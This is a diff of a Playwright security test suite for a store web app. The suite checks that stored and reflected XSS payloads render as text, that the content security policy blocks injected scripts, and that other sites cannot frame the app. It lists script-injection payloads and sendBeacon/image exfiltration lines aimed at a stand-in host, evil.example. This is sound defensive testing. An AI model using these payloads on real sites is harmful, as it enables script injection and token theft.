@@ -2,10 +2,10 @@ import { once } from 'node:events'
 import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import Database from 'better-sqlite3'
-import type { BrowserContext } from '@playwright/test'
-import { expect, type Somebody, test } from './store.ts'
+import type { BrowserContext, Page } from '@playwright/test'
+import { expect, type TestUser, test } from './fixtures.ts'
 
-/** What has run somewhere, in the one form or the other; `ran` is a function in every page of these tests. */
+/** Known ways to inject a script. `ran` is a function in every page of these tests, which must not be called. */
 const payloads = [
   '<script>ran(1)</script>',
   '<img src=x onerror=ran(2)>',
@@ -32,31 +32,26 @@ const payloads = [
   '<link rel=stylesheet href="https://evil.example/x.css">',
   '<base href="https://evil.example/">',
 ]
-const all = payloads.join('\n')
+const allPayloads = payloads.join('\n')
 
-/** Counts what runs in the pages of this browser, and answers nothing that another site is asked. */
-async function watch(context: BrowserContext) {
+/** Records injected code that runs, and aborts and records requests to another site. */
+async function recordAttacks(context: BrowserContext) {
   const ran: unknown[] = []
-  const abroad: string[] = []
-  await context.exposeFunction('ran', (which: unknown) => void ran.push(which))
-  await context.route(/evil\.example/, (route) => (abroad.push(route.request().url()), route.abort()))
-  return { ran, abroad }
+  const requests: string[] = []
+  await context.exposeFunction('ran', (payload: unknown) => void ran.push(payload))
+  await context.route(/evil\.example/, (route) => (requests.push(route.request().url()), route.abort()))
+  return { ran, requests }
 }
 
-test('what customers and staff write is shown as text, wherever it is shown', async ({
-  signedIn,
-  newcomer,
-  store,
-  browse,
-}) => {
+test('user input is shown as text wherever it appears', async ({ logIn, newCustomer, app, newVisitor }) => {
   test.setTimeout(120_000)
-  const staff = await signedIn('staff@example.com')
-  const ada = await newcomer()
-  const visitor = await browse()
-  const watched = await Promise.all([staff.context, ada.context, visitor.context()].map(watch))
-  const { item, order } = await plant(staff, ada, store.file)
+  const staff = await logIn('staff@example.com')
+  const ada = await newCustomer()
+  const visitor = await newVisitor()
+  const attacks = await Promise.all([staff.context, ada.context, visitor.context()].map(recordAttacks))
+  const { item, order } = await insertPayloads(staff, ada, app.databaseFile)
 
-  const looks: [Somebody['page'], string][] = [
+  const pages: [Page, string][] = [
     [visitor, `/items/${item}`],
     [visitor, `/items?q=${encodeURIComponent(payloads[1]!)}&category=${encodeURIComponent(payloads[0]!)}`],
     [visitor, `/auth?from=${encodeURIComponent('javascript:ran(30)')}`],
@@ -70,78 +65,78 @@ test('what customers and staff write is shown as text, wherever it is shown', as
     [staff.page, '/admin/reviews'],
     [staff.page, `/admin/customers/${ada.id}`],
   ]
-  for (const [page, path] of looks) {
+  for (const [page, path] of pages) {
     await page.goto(path)
     await page.waitForLoadState('networkidle')
     await page.mouse.move(300, 300)
-    // Nothing planted has become an element that could run, load or lead somewhere.
-    const found = await page.evaluate(() =>
+    // No payload has become an element with a handler or a script URL.
+    const dangerous = await page.evaluate(() =>
       [...document.querySelectorAll('main *')]
-        .filter((one) =>
-          [...one.attributes].some(
+        .filter((element) =>
+          [...element.attributes].some(
             ({ name, value }) => name.startsWith('on') || /^\s*(javascript|data:text)/i.test(value),
           ),
         )
-        .map((one) => one.outerHTML),
+        .map((element) => element.outerHTML),
     )
-    expect(found, path).toEqual([])
-    // What search engines read is data, and stays within its element.
+    expect(dangerous, path).toEqual([])
+    // Structured data is valid JSON, so no payload ends its element.
     for (const text of await page.locator('[type="application/ld+json"]').allTextContents()) JSON.parse(text)
     const code = 'main script:not([type="application/ld+json"])'
     expect(await page.locator(`${code}, main iframe, main object, main base, main meta`).count(), path).toBe(0)
   }
-  for (const { ran, abroad } of watched) expect([ran, abroad]).toEqual([[], []])
+  for (const { ran, requests } of attacks) expect([ran, requests]).toEqual([[], []])
 })
 
-/** Through the front door; and, as if that had let it pass, into the description's row itself. */
-async function plant(staff: Somebody, ada: Somebody, file: string) {
+/** Sends the payloads through the API, and writes them into rows where the API would reject or sanitise them. */
+async function insertPayloads(staff: TestUser, ada: TestUser, databaseFile: string) {
   const items = (await staff.call('GET', '/items?limit=1')).data as unknown as { _id: string }[]
   const item = items[0]!._id
-  const db = new Database(file)
+  const db = new Database(databaseFile)
   db.pragma('busy_timeout = 5000')
   db.prepare('update items set description = ?, short_description = ?, name = ? where id = ?').run(
-    all,
+    allPayloads,
     payloads[1],
     payloads[0],
     item,
   )
   db.prepare('update users set first_name = ?, last_name = ? where id = ?').run(payloads[1], payloads[0], ada.id)
   db.close()
-  const done = async (told: Promise<{ success: boolean; message?: string; data: Record<string, unknown> }>) => {
-    const { success, message, data } = await told
+  const succeed = async (response: ReturnType<TestUser['call']>) => {
+    const { success, message, data } = await response
     expect(success, message).toBe(true)
     return data
   }
-  await done(ada.call('POST', '/reviews', { item, stars: 5, description: all.slice(0, 1900) }))
-  await done(ada.call('POST', '/support-chat/message', { message: all.slice(0, 3900), item }))
-  await done(staff.call('POST', '/support-chat/message', { message: all.slice(0, 3900), userId: ada.id }))
-  await done(ada.call('POST', '/cart', { item, count: 1 }))
-  const order = (await done(ada.call('POST', '/checkout', { paymentMethod: 'bank' })))._id as string
-  await done(ada.call('PATCH', `/checkout/${order}/mark-paid`, { reference: payloads[1] }))
-  await done(staff.call('PATCH', `/admin/orders/${order}/reject`, { reason: all.slice(0, 490) }))
+  await succeed(ada.call('POST', '/reviews', { item, stars: 5, description: allPayloads.slice(0, 1900) }))
+  await succeed(ada.call('POST', '/support-chat/message', { message: allPayloads.slice(0, 3900), item }))
+  await succeed(staff.call('POST', '/support-chat/message', { message: allPayloads.slice(0, 3900), userId: ada.id }))
+  await succeed(ada.call('POST', '/cart', { item, count: 1 }))
+  const order = (await succeed(ada.call('POST', '/checkout', { paymentMethod: 'bank' })))._id as string
+  await succeed(ada.call('PATCH', `/checkout/${order}/mark-paid`, { reference: payloads[1] }))
+  await succeed(staff.call('PATCH', `/admin/orders/${order}/reject`, { reason: allPayloads.slice(0, 490) }))
   return { item, order }
 }
 
-test.describe('a script that somebody planted', () => {
-  test.use({ provoked: /Content Security Policy|ERR_FAILED|ERR_BLOCKED/ })
+test.describe('with a policy violation', () => {
+  test.use({ expectedErrors: /Content Security Policy|ERR_FAILED|ERR_BLOCKED/ })
 
-  test('does not run: the policy of the page forbids it', async ({ browse }) => {
-    const page = await browse()
-    const { ran, abroad } = await watch(page.context())
+  test('injected scripts are blocked by the content security policy', async ({ newVisitor }) => {
+    const page = await newVisitor()
+    const { ran, requests } = await recordAttacks(page.context())
     await page.goto('/items')
-    const forbidden: string[] = []
-    await page.exposeFunction('forbid', (what: string) => void forbidden.push(what))
+    const violations: string[] = []
+    await page.exposeFunction('reportViolation', (violation: string) => void violations.push(violation))
     await page.evaluate(() => {
       document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
-        const [site = ''] = /^\w+:\/\/[^/]+|^[\w-]+/.exec(blockedURI) ?? []
-        Reflect.get(window, 'forbid')(`${effectiveDirective} ${site}`)
+        const [source = ''] = /^\w+:\/\/[^/]+|^[\w-]+/.exec(blockedURI) ?? []
+        Reflect.get(window, 'reportViolation')(`${effectiveDirective} ${source}`)
       })
-      const add = (name: string, set: Record<string, string>, text = '') => {
-        const one = document.createElement(name)
-        for (const [key, value] of Object.entries(set)) one.setAttribute(key, value)
-        one.textContent = text
-        document.body.append(one)
-        return one
+      const add = (name: string, attributes: Record<string, string>, text = '') => {
+        const element = document.createElement(name)
+        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
+        element.textContent = text
+        document.body.append(element)
+        return element
       }
       add('script', {}, 'ran(1)')
       add('script', { src: 'https://evil.example/x.js' })
@@ -155,9 +150,9 @@ test.describe('a script that somebody planted', () => {
       navigator.sendBeacon('https://evil.example/take', 'token')
       new Image().src = 'https://evil.example/take?token'
     })
-    // Of each of them the browser says that it was refused, and by what.
+    // The browser reports each violation with its directive.
     await expect
-      .poll(() => forbidden.toSorted())
+      .poll(() => violations.toSorted())
       .toEqual([
         'base-uri https://evil.example',
         'connect-src https://evil.example',
@@ -170,32 +165,32 @@ test.describe('a script that somebody planted', () => {
         'script-src-elem inline',
         'style-src-elem https://evil.example',
       ])
-    expect([ran, abroad]).toEqual([[], []])
+    expect([ran, requests]).toEqual([[], []])
   })
 
-  test('nor does another site get the store into a frame', async ({ browse, store }) => {
-    const page = await browse()
-    // Of this machine too: a page from abroad is kept from here by the browser itself, whatever the store says.
+  test("can't frame the app from another site", async ({ newVisitor, app }) => {
+    const page = await newVisitor()
+    // Also served locally, since the browser itself blocks public sites from framing local ones.
     const frames = ['/', '/faq'].map(
-      (path) => `<iframe src="${store.address}${path}" onload="document.body.dataset.loaded += '.'"></iframe>`,
+      (path) => `<iframe src="${app.url}${path}" onload="document.body.dataset.loaded += '.'"></iframe>`,
     )
-    const elsewhere = createServer((_, response) => {
+    const otherSite = createServer((_, response) => {
       response.setHeader('content-type', 'text/html').end(`<body data-loaded="">${frames.join('')}`)
     })
-    elsewhere.listen(0, '127.0.0.1')
-    await once(elsewhere, 'listening')
-    // One that forbids nothing shows that a frame can be seen here.
+    otherSite.listen(0, '127.0.0.1')
+    await once(otherSite, 'listening')
+    // Without its headers, the FAQ page can be framed, which shows that the check works.
     await page.route('**/faq', async (route) => {
-      const answer = await route.fetch()
-      await route.fulfill({ response: answer, headers: { 'content-type': 'text/html' } })
+      const response = await route.fetch()
+      await route.fulfill({ response, headers: { 'content-type': 'text/html' } })
     })
-    const asked = page.waitForResponse(`${store.address}/`)
-    await page.goto(`http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`)
-    await asked
-    await expect(page.locator('body'), 'both have come to their end').toHaveAttribute('data-loaded', '..')
-    const mains = page.locator('iframe').nth(1).contentFrame().getByRole('main')
-    await expect(mains.first(), 'the one that may be there').toBeVisible()
+    const framed = page.waitForResponse(`${app.url}/`)
+    await page.goto(`http://127.0.0.1:${(otherSite.address() as AddressInfo).port}/`)
+    await framed
+    await expect(page.locator('body'), 'both frames have loaded').toHaveAttribute('data-loaded', '..')
+    const allowedMain = page.locator('iframe').nth(1).contentFrame().getByRole('main')
+    await expect(allowedMain.first(), 'the frame without the headers').toBeVisible()
     await expect(page.locator('iframe').nth(0).contentFrame().getByRole('main')).toHaveCount(0)
-    elsewhere.close()
+    otherSite.close()
   })
 })
